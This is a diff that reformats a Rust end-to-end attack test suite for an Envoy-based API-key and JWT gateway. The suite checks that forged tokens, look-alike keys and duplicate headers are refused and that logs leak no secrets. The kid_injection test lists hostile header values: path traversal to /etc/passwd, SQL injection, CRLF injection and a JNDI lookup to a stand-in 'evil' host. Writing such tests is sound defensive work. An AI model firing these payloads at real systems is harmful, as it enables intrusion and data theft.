@@ -24,11 +24,27 @@ use crate::{Case, Suite};
 pub fn suites() -> Vec<Suite> {
     vec![
         Suite { name: "attacks", options: StackOptions::default, cases: CASES },
-        Suite { name: "attacks_expiry", options: expiry_options, cases: &[("expired_real_token_is_401_invalid_token", expired_real_token)] },
-        Suite { name: "attacks_issuer", options: issuer_options, cases: &[("real_token_of_another_issuer_is_401_invalid_token", wrong_issuer_real_token)] },
-        Suite { name: "attacks_audience", options: audience_options, cases: &[("real_token_for_another_audience_is_401_invalid_token", wrong_audience_real_token)] },
+        Suite {
+            name: "attacks_expiry",
+            options: expiry_options,
+            cases: &[("expired_real_token_is_401_invalid_token", expired_real_token)],
+        },
+        Suite {
+            name: "attacks_issuer",
+            options: issuer_options,
+            cases: &[("real_token_of_another_issuer_is_401_invalid_token", wrong_issuer_real_token)],
+        },
+        Suite {
+            name: "attacks_audience",
+            options: audience_options,
+            cases: &[("real_token_for_another_audience_is_401_invalid_token", wrong_audience_real_token)],
+        },
         Suite { name: "attacks_live", options: live_options, cases: &[("test_key_on_a_live_route_is_403", test_key_on_live_route)] },
-        Suite { name: "attacks_flapping", options: flapping_options, cases: &[("flapping_admin_under_load_makes_no_wrong_decision", flapping_admin)] },
+        Suite {
+            name: "attacks_flapping",
+            options: flapping_options,
+            cases: &[("flapping_admin_under_load_makes_no_wrong_decision", flapping_admin)],
+        },
         Suite { name: "attacks_logs", options: debug_options, cases: &[("debug_logs_hold_no_key_password_or_token", no_secrets_in_logs)] },
     ]
 }
@@ -60,9 +76,12 @@ const CASES: &[Case] = &[
 
 // ----- stacks -----
 
-
 fn expiry_options() -> StackOptions {
-    StackOptions { plugin_json: Some(plugin_json("\n  \"leeway_secs\": 0,", "")), admin_args: vec!["--token-ttl-secs".into(), "1".into()], ..StackOptions::default() }
+    StackOptions {
+        plugin_json: Some(plugin_json("\n  \"leeway_secs\": 0,", "")),
+        admin_args: vec!["--token-ttl-secs".into(), "1".into()],
+        ..StackOptions::default()
+    }
 }
 
 fn issuer_options() -> StackOptions {
@@ -74,7 +93,10 @@ fn audience_options() -> StackOptions {
 }
 
 fn live_options() -> StackOptions {
-    StackOptions { plugin_json: Some(plugin_json("", "\n    {\"prefix\": \"/live/\", \"require\": \"key\", \"mode\": \"live\"},")), ..StackOptions::default() }
+    StackOptions {
+        plugin_json: Some(plugin_json("", "\n    {\"prefix\": \"/live/\", \"require\": \"key\", \"mode\": \"live\"},")),
+        ..StackOptions::default()
+    }
 }
 
 fn flapping_options() -> StackOptions {
@@ -111,7 +133,11 @@ fn ready_tenant(stack: &Stack) -> Tenant {
 /// A request to an all-three route with a valid key and business and `bearer` as the
 /// whole Authorization value.
 fn with_bearer(stack: &Stack, t: &Tenant, authorization: &[u8]) -> (u16, Value) {
-    stack.through_envoy("GET", "/orders", &[("authorization", authorization), ("SECRET_KEY", t.sk.as_bytes()), ("businessId", t.business_id.as_bytes())])
+    stack.through_envoy(
+        "GET",
+        "/orders",
+        &[("authorization", authorization), ("SECRET_KEY", t.sk.as_bytes()), ("businessId", t.business_id.as_bytes())],
+    )
 }
 
 fn token_refused(stack: &Stack, t: &Tenant, what: &str, token: &str) {
@@ -212,7 +238,18 @@ fn kid_injection(stack: &Stack) {
     let t = ready_tenant(stack);
     let claims = claims_of(&t.access_token);
     let (_, payload, sig) = parts(&t.access_token);
-    for kid in ["../../../../etc/passwd", "/dev/null", "' OR '1'='1", "x'; DROP TABLE keys;--", "sig\r\nX-Injected: 1", "sig\u{0}", "%00", "${jndi:ldap://evil/x}", "*", ""] {
+    for kid in [
+        "../../../../etc/passwd",
+        "/dev/null",
+        "' OR '1'='1",
+        "x'; DROP TABLE keys;--",
+        "sig\r\nX-Injected: 1",
+        "sig\u{0}",
+        "%00",
+        "${jndi:ldap://evil/x}",
+        "*",
+        "",
+    ] {
         // Signed by the attacker under that kid, and the real signature under that kid.
         token_refused(stack, &t, &format!("kid {kid:?} (foreign key)"), &foreign_pair(kid).sign(&claims).unwrap());
         let (mut header, _, _) = parts(&t.access_token);
@@ -379,7 +416,12 @@ fn two_authorization_headers(stack: &Stack) {
         let resp = stack.through_envoy(
             "GET",
             "/orders",
-            &[("authorization", good.as_bytes()), ("Authorization", second.as_bytes()), ("SECRET_KEY", t.sk.as_bytes()), ("businessId", t.business_id.as_bytes())],
+            &[
+                ("authorization", good.as_bytes()),
+                ("Authorization", second.as_bytes()),
+                ("SECRET_KEY", t.sk.as_bytes()),
+                ("businessId", t.business_id.as_bytes()),
+            ],
         );
         assert_refused("two Authorization headers", &resp, &["invalid_token"], false);
     }
@@ -404,7 +446,11 @@ fn key_wrong_checksum(stack: &Stack) {
     let mut body_typo = t.sk.clone().into_bytes();
     body_typo[12] = if body_typo[12] == b'a' { b'b' } else { b'a' };
     for key in [broken, body_typo] {
-        assert_denied(&stack.through_envoy("GET", "/orders", &three(&bearer, std::str::from_utf8(&key).unwrap(), &t.business_id)), 401, "invalid_api_key");
+        assert_denied(
+            &stack.through_envoy("GET", "/orders", &three(&bearer, std::str::from_utf8(&key).unwrap(), &t.business_id)),
+            401,
+            "invalid_api_key",
+        );
         assert_denied(&stack.through_envoy("GET", "/key/x", &[("SECRET_KEY", &key)]), 401, "invalid_api_key");
     }
 }
@@ -474,7 +520,11 @@ fn key_other_business(stack: &Stack) {
     // B's key with A's token and A's business; A's key with A's token and B's business.
     assert_denied(&stack.through_envoy("GET", "/orders", &three(&bearer, &b.sk, &a.business_id)), 403, "business_mismatch");
     assert_denied(&stack.through_envoy("GET", "/orders", &three(&bearer, &a.sk, &b.business_id)), 403, "business_mismatch");
-    assert_denied(&stack.through_envoy("GET", "/key/x", &[("SECRET_KEY", b.sk.as_bytes()), ("businessId", a.business_id.as_bytes())]), 403, "business_mismatch");
+    assert_denied(
+        &stack.through_envoy("GET", "/key/x", &[("SECRET_KEY", b.sk.as_bytes()), ("businessId", a.business_id.as_bytes())]),
+        403,
+        "business_mismatch",
+    );
 }
 
 fn key_look_alikes(stack: &Stack) {
@@ -487,12 +537,12 @@ fn key_look_alikes(stack: &Stack) {
     }
     let cyrillic_a = t.sk.replacen('a', "а", 1);
     let variants = [
-        format!("{}\u{a0}", t.sk),     // no-break space
-        format!("{}\u{200b}", t.sk),   // zero-width space
-        format!("\u{feff}{}", t.sk),   // BOM
-        format!("{}\u{3000}", t.sk),   // ideographic space
+        format!("{}\u{a0}", t.sk),      // no-break space
+        format!("{}\u{200b}", t.sk),    // zero-width space
+        format!("\u{feff}{}", t.sk),    // BOM
+        format!("{}\u{3000}", t.sk),    // ideographic space
         t.sk.replacen("sk_", "ѕk_", 1), // Cyrillic dze
-        t.sk.replacen('_', "＿", 1),   // fullwidth low line
+        t.sk.replacen('_', "＿", 1),    // fullwidth low line
         cyrillic_a,
         t.sk.to_uppercase(),
         format!("{} {}", t.sk, t.sk),
@@ -506,7 +556,11 @@ fn key_look_alikes(stack: &Stack) {
         assert_denied(&stack.through_envoy("GET", "/key/x", &[("SECRET_KEY", v.as_bytes())]), 401, "invalid_api_key");
     }
     // Two SECRET_KEY headers, even both the valid key.
-    assert_denied(&stack.through_envoy("GET", "/key/x", &[("SECRET_KEY", t.sk.as_bytes()), ("secret_key", t.sk.as_bytes())]), 401, "invalid_api_key");
+    assert_denied(
+        &stack.through_envoy("GET", "/key/x", &[("SECRET_KEY", t.sk.as_bytes()), ("secret_key", t.sk.as_bytes())]),
+        401,
+        "invalid_api_key",
+    );
     // A look-alike business id.
     let biz = t.business_id.replacen("biz_", "bіz_", 1);
     assert_denied(&stack.through_envoy("GET", "/orders", &three(&bearer, &t.sk, &biz)), 403, "business_mismatch");
@@ -531,9 +585,23 @@ fn ten_kb_headers(stack: &Stack) {
     check("10 KB businessId", stack.through_envoy("GET", "/orders", &three(&bearer, &t.sk, &big)), 403, "business_mismatch");
     let big_bearer = format!("Bearer {big}");
     check("10 KB Authorization", stack.through_envoy("GET", "/orders", &three(&big_bearer, &t.sk, &t.business_id)), 401, "invalid_token");
-    check("10 KB bearer key", stack.through_envoy("GET", "/key/x", &[("authorization", format!("Bearer {big_key}").as_bytes())]), 401, "invalid_api_key");
+    check(
+        "10 KB bearer key",
+        stack.through_envoy("GET", "/key/x", &[("authorization", format!("Bearer {big_key}").as_bytes())]),
+        401,
+        "invalid_api_key",
+    );
     // 10 KB of an unrelated header does not change a valid request.
-    let (status, _) = stack.through_envoy("GET", "/orders", &[("authorization", bearer.as_bytes()), ("SECRET_KEY", t.sk.as_bytes()), ("businessId", t.business_id.as_bytes()), ("x-padding", big.as_bytes())]);
+    let (status, _) = stack.through_envoy(
+        "GET",
+        "/orders",
+        &[
+            ("authorization", bearer.as_bytes()),
+            ("SECRET_KEY", t.sk.as_bytes()),
+            ("businessId", t.business_id.as_bytes()),
+            ("x-padding", big.as_bytes()),
+        ],
+    );
     assert_eq!(status, 200);
 }
 
@@ -556,12 +624,24 @@ fn vm_alive(stack: &Stack) {
 /// Envoy's count of wasm VMs created: a VM that fails is replaced (`FAIL_RELOAD`), so a
 /// rise during a run means a crash.
 fn wasm_vms_created(stack: &Stack) -> u64 {
-    stack.envoy_stats().lines().find_map(|l| l.strip_prefix("wasm.envoy.wasm.runtime.v8.created: ")).and_then(|v| v.trim().parse().ok()).expect("Envoy reports wasm.envoy.wasm.runtime.v8.created")
+    stack
+        .envoy_stats()
+        .lines()
+        .find_map(|l| l.strip_prefix("wasm.envoy.wasm.runtime.v8.created: "))
+        .and_then(|v| v.trim().parse().ok())
+        .expect("Envoy reports wasm.envoy.wasm.runtime.v8.created")
 }
 
 /// Envoy's error-level wasm lines (a VM failure, a trap, a panic).
 fn wasm_errors(stack: &Stack) -> Vec<String> {
-    stack.envoy_log().lines().filter(|l| l.contains("panicked") || ((l.contains("[error][wasm]") || l.contains("[critical][wasm]")) && !l.contains("wasm log keygate"))).map(|l| l.chars().take(300).collect()).collect()
+    stack
+        .envoy_log()
+        .lines()
+        .filter(|l| {
+            l.contains("panicked") || ((l.contains("[error][wasm]") || l.contains("[critical][wasm]")) && !l.contains("wasm log keygate"))
+        })
+        .map(|l| l.chars().take(300).collect())
+        .collect()
 }
 
 // ----- real tokens refused by claim -----
@@ -661,7 +741,8 @@ fn no_secrets_in_logs(stack: &Stack) {
     // The search finds a planted secret, so a 0 below means something.
     let planted = std::env::temp_dir().join(format!("keygate-planted-{}", std::process::id()));
     std::fs::create_dir_all(&planted).unwrap();
-    std::fs::write(planted.join("admin.log"), "2026 DEBUG request authorization=Bearer eyJhbGciOi.eyJzdWIiOiJ4In0.c2lnbmF0dXJl ok\n").unwrap();
+    std::fs::write(planted.join("admin.log"), "2026 DEBUG request authorization=Bearer eyJhbGciOi.eyJzdWIiOiJ4In0.c2lnbmF0dXJl ok\n")
+        .unwrap();
     let planted_token = "eyJhbGciOi.eyJzdWIiOiJ4In0.c2lnbmF0dXJl";
     std::fs::write(
         planted.join("envoy.log"),
@@ -672,7 +753,11 @@ fn no_secrets_in_logs(stack: &Stack) {
     let _ = std::fs::remove_dir_all(&planted);
     assert_eq!((found.len(), skipped), (6, 2), "the log search misses a planted secret: {found:?}");
 
-    let mut secrets: Vec<(String, String)> = vec![("operator token".into(), keygate_e2e::OPERATOR_TOKEN.into()), ("proxy token".into(), keygate_e2e::PROXY_TOKEN.into()), ("password".into(), PASSWORD.into())];
+    let mut secrets: Vec<(String, String)> = vec![
+        ("operator token".into(), keygate_e2e::OPERATOR_TOKEN.into()),
+        ("proxy token".into(), keygate_e2e::PROXY_TOKEN.into()),
+        ("password".into(), PASSWORD.into()),
+    ];
     let t = ready_tenant(stack);
     secrets.push(("sign-in access token".into(), t.access_token.clone()));
     secrets.push(("sk key".into(), t.sk.clone()));
@@ -699,7 +784,8 @@ fn no_secrets_in_logs(stack: &Stack) {
     secrets.push(("wrong password".into(), wrong.into()));
     let (status, _) = stack.admin(reqwest::Method::POST, "/auth/signin", None, Some(json!({"email": t.email, "password": wrong})));
     assert_eq!(status, 401);
-    let (status, _) = stack.admin(reqwest::Method::POST, "/auth/signin", None, Some(json!({"email": "nobody@example.com", "password": wrong})));
+    let (status, _) =
+        stack.admin(reqwest::Method::POST, "/auth/signin", None, Some(json!({"email": "nobody@example.com", "password": wrong})));
     assert!(status == 401 || status == 429);
 
     // More keys, an API-key login, requests with valid and invalid credentials.
@@ -739,9 +825,19 @@ fn no_secrets_in_logs(stack: &Stack) {
     eprintln!("attacks_logs: {} needles, {envoy_dumps} lines of Envoy's own header dumps skipped", all.len());
     let filter_lines = stack.envoy_log().lines().filter(|l| l.contains("wasm log keygate")).count();
     assert!(filter_lines > 0, "the keygate filter logged nothing, so its lines were not searched");
-    let lines: usize = ["admin.log", "admin.stdout", "envoy.log", "echo.log"].iter().map(|f| std::fs::read_to_string(stack.dir.join(f)).map(|t| t.lines().count()).unwrap_or(0)).sum();
+    let lines: usize = ["admin.log", "admin.stdout", "envoy.log", "echo.log"]
+        .iter()
+        .map(|f| std::fs::read_to_string(stack.dir.join(f)).map(|t| t.lines().count()).unwrap_or(0))
+        .sum();
     assert!(lines > 100, "expected a debug-level log to search, found {lines} lines in {}", stack.dir.display());
-    assert!(hits.is_empty(), "{} secret(s) in logs under {} (searched {lines} lines for {} needles): {:?}", hits.len(), stack.dir.display(), all.len(), &hits[..hits.len().min(20)]);
+    assert!(
+        hits.is_empty(),
+        "{} secret(s) in logs under {} (searched {lines} lines for {} needles): {:?}",
+        hits.len(),
+        stack.dir.display(),
+        all.len(),
+        &hits[..hits.len().min(20)]
+    );
 }
 
 // ----- flapping admin under load -----
@@ -789,7 +885,9 @@ impl Cred {
         if allowed {
             match (self.valid_from, self.dead_from) {
                 (None, _) => (Some("a key admin never issued was allowed".into()), None),
-                (_, Some(dead)) if sent > dead + PROPAGATION => (Some(format!("allowed {:?} after its end was acknowledged", sent - dead)), None),
+                (_, Some(dead)) if sent > dead + PROPAGATION => {
+                    (Some(format!("allowed {:?} after its end was acknowledged", sent - dead)), None)
+                }
                 (_, Some(dead)) => (None, sent.checked_duration_since(dead)),
                 _ => (None, None),
             }
@@ -858,9 +956,11 @@ fn flapping_admin(stack: &Stack) {
     let started = Instant::now();
     let deadline = started + Duration::from_secs(secs);
     let (sk_id, sk_raw) = {
-        let (status, keys) = stack.admin(reqwest::Method::GET, &format!("/v1/businesses/{}/keys", t.business_id), Some(keygate_e2e::OPERATOR_TOKEN), None);
+        let (status, keys) =
+            stack.admin(reqwest::Method::GET, &format!("/v1/businesses/{}/keys", t.business_id), Some(keygate_e2e::OPERATOR_TOKEN), None);
         assert_eq!(status, 200, "{keys}");
-        let id = keys.as_array().or_else(|| keys["keys"].as_array()).and_then(|a| a.first()).and_then(|k| k["id"].as_str()).unwrap().to_owned();
+        let id =
+            keys.as_array().or_else(|| keys["keys"].as_array()).and_then(|a| a.first()).and_then(|k| k["id"].as_str()).unwrap().to_owned();
         (id, t.sk.clone())
     };
     let mut oracle = Oracle::default();
@@ -872,7 +972,14 @@ fn flapping_admin(stack: &Stack) {
     let oracle = std::sync::Mutex::new(oracle);
     // POST to admin as the operator: Some(body) on 2xx, None when it failed or admin was down.
     let admin_call = |path: &str, body: Value| -> Option<Value> {
-        let resp = stack.http.post(format!("{}{path}", stack.admin_url)).bearer_auth(keygate_e2e::OPERATOR_TOKEN).json(&body).timeout(Duration::from_secs(3)).send().ok()?;
+        let resp = stack
+            .http
+            .post(format!("{}{path}", stack.admin_url))
+            .bearer_auth(keygate_e2e::OPERATOR_TOKEN)
+            .json(&body)
+            .timeout(Duration::from_secs(3))
+            .send()
+            .ok()?;
         resp.status().is_success().then(|| resp.json().ok()).flatten()
     };
     let deactivate = |id: &str| {
@@ -962,8 +1069,11 @@ fn flapping_admin(stack: &Stack) {
                     let victim = {
                         let mut o = oracle.lock().unwrap();
                         let busy = o.busy.clone();
-                        let live = |c: &&Cred| c.valid_from.is_some() && c.doubt_from.is_none() && !c.id.is_empty() && !busy.contains(&c.id);
-                        let in_grace = |id: &String| o.creds.iter().any(|c| &c.id == id && c.doubt_from.is_some() && c.dead_from.is_some_and(|d| d > Instant::now()));
+                        let live =
+                            |c: &&Cred| c.valid_from.is_some() && c.doubt_from.is_none() && !c.id.is_empty() && !busy.contains(&c.id);
+                        let in_grace = |id: &String| {
+                            o.creds.iter().any(|c| &c.id == id && c.doubt_from.is_some() && c.dead_from.is_some_and(|d| d > Instant::now()))
+                        };
                         let single = |id: &String| o.creds.iter().filter(|c| &c.id == id && c.dead_from.is_none()).count() == 1;
                         let pick = if op == 0 {
                             let graced = o.creds.iter().filter(live).map(|c| c.id.clone()).find(in_grace);
@@ -996,12 +1106,16 @@ fn flapping_admin(stack: &Stack) {
                                 let rotated = admin_call(&format!("/v1/keys/{id}/rotate"), json!({"grace_secs": grace}));
                                 let at = Instant::now();
                                 let mut o = oracle.lock().unwrap();
-                                o.count(["", "rotate", "rotate with 2 s grace", "rotate with 30 s grace"][kind as usize], rotated.is_some());
+                                o.count(
+                                    ["", "rotate", "rotate with 2 s grace", "rotate with 30 s grace"][kind as usize],
+                                    rotated.is_some(),
+                                );
                                 match rotated {
                                     Some(k) => {
                                         if grace > 0 {
                                             // previous_key_valid_until is at most (now at the ack) + grace.
-                                            let until = k["previous_key_valid_until"].as_str().map(|s| keygate_admin::rfc3339::parse(s).unwrap());
+                                            let until =
+                                                k["previous_key_valid_until"].as_str().map(|s| keygate_admin::rfc3339::parse(s).unwrap());
                                             let until = until.unwrap_or(before + grace);
                                             let end = at + Duration::from_secs(until.saturating_sub(before) + 1);
                                             o.of_id(&id).for_each(|c| c.kill(end));
@@ -1058,7 +1172,9 @@ fn flapping_admin(stack: &Stack) {
             _ => continue, // its grace ends while we look
         };
         let (id, raw) = (&c.id, &c.raw);
-        eventually(&format!("key {id} settling to {want}"), || stack.through_envoy("GET", "/key/flap", &[("SECRET_KEY", raw.as_bytes())]).0 == want);
+        eventually(&format!("key {id} settling to {want}"), || {
+            stack.through_envoy("GET", "/key/flap", &[("SECRET_KEY", raw.as_bytes())]).0 == want
+        });
     }
     stack.assert_alive();
     let o = oracle.lock().unwrap();
@@ -1090,10 +1206,12 @@ fn flapping_admin(stack: &Stack) {
 
 fn sha256(data: &[u8]) -> [u8; 32] {
     const K: [u32; 64] = [
-        0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f,
-        0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
-        0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,
-        0xc67178f2,
+        0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be,
+        0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa,
+        0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85,
+        0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3,
+        0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f,
+        0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
     ];
     let mut h: [u32; 8] = [0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19];
     let mut msg = data.to_vec();
